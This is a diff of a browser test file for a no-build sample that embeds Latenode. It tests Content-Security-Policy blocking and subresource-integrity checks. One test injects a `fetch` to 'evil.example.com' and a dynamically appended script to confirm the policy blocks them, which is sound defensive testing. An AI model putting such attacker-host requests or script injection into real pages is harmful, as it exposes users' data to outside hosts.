@@ -1,4 +1,4 @@
-/** The file for `<script type="module">`, in Chromium, without a build. */
+/** Tests the file for `<script type="module">` in Chromium, without a build. */
 import { cp, mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, inject, test } from 'vitest';
@@ -19,7 +19,7 @@ afterEach(async () => {
   await visit.page.context().close();
 });
 
-/** Opens the sample; its script is moved to a file, because the policy of docs/front-end.md allows none in the page. */
+/** Opens the sample with its script in a file, because the policy of docs/front-end.md allows no inline scripts. */
 const open = async (change: (script: string) => string, options?: VisitOptions): Promise<void> => {
   const [page = '', code = ''] = samples.page.replace('</script>', '').split(script);
   await cp(join(root, 'latenode-token-client.js'), join(folder, 'latenode-token-client.js'));
@@ -28,14 +28,14 @@ const open = async (change: (script: string) => string, options?: VisitOptions):
   visit = await visitPage(folder, options);
 };
 
-test('the sample embeds Latenode', async () => {
+test('the sample without a build embeds Latenode', async () => {
   await open((code) => code, { before: signIn });
   await visit.page.getByText('Latenode for eyJ').waitFor();
   expect(visit.tokenRequests).toHaveLength(1);
-  expect(visit.complaints).toEqual([]);
+  expect(visit.problems).toEqual([]);
 });
 
-test('the recommended policy keeps scripts from sending data elsewhere, and inline scripts from running', async () => {
+test('the recommended Content-Security-Policy blocks requests to other origins and inline scripts', async () => {
   await open(
     () => `fetch('https://evil.example.com').catch(() => {
     const script = document.createElement('script');
@@ -43,11 +43,11 @@ test('the recommended policy keeps scripts from sending data elsewhere, and inli
     document.body.append(script);
   })`,
   );
-  await expect.poll(() => visit.complaints.join()).toMatch(/connect-src.*script-src/s);
+  await expect.poll(() => visit.problems.join()).toMatch(/connect-src.*script-src/s);
   expect(await visit.page.title()).toBe('Automations');
 });
 
-describe('integrity', () => {
+describe('embedLatenode, with integrity,', () => {
   const withIntegrity = (integrity: string) => (code: string) =>
     code.replace(
       "embedLatenode({ client, container: 'latenode' });",
@@ -66,13 +66,13 @@ describe('integrity', () => {
     });
   };
 
-  test('embeds Latenode from the script with this hash, although a class is on window', async () => {
+  test('embeds Latenode from the script with this hash, although a class is already on window', async () => {
     await open(withIntegrity(sdkIntegrity), { before: putClassOnWindow });
     await visit.page.getByText('Latenode for eyJ').waitFor();
     expect(await visit.page.title()).toBe('Automations');
   });
 
-  test('embeds nothing when the hash differs, although a class is on window', async () => {
+  test('embeds nothing if the hash differs, although a class is already on window', async () => {
     await open(withIntegrity(`sha384-${'A'.repeat(64)}`), { before: putClassOnWindow });
     await expect.poll(() => visit.page.title()).toBe('sdk_not_loaded');
   });
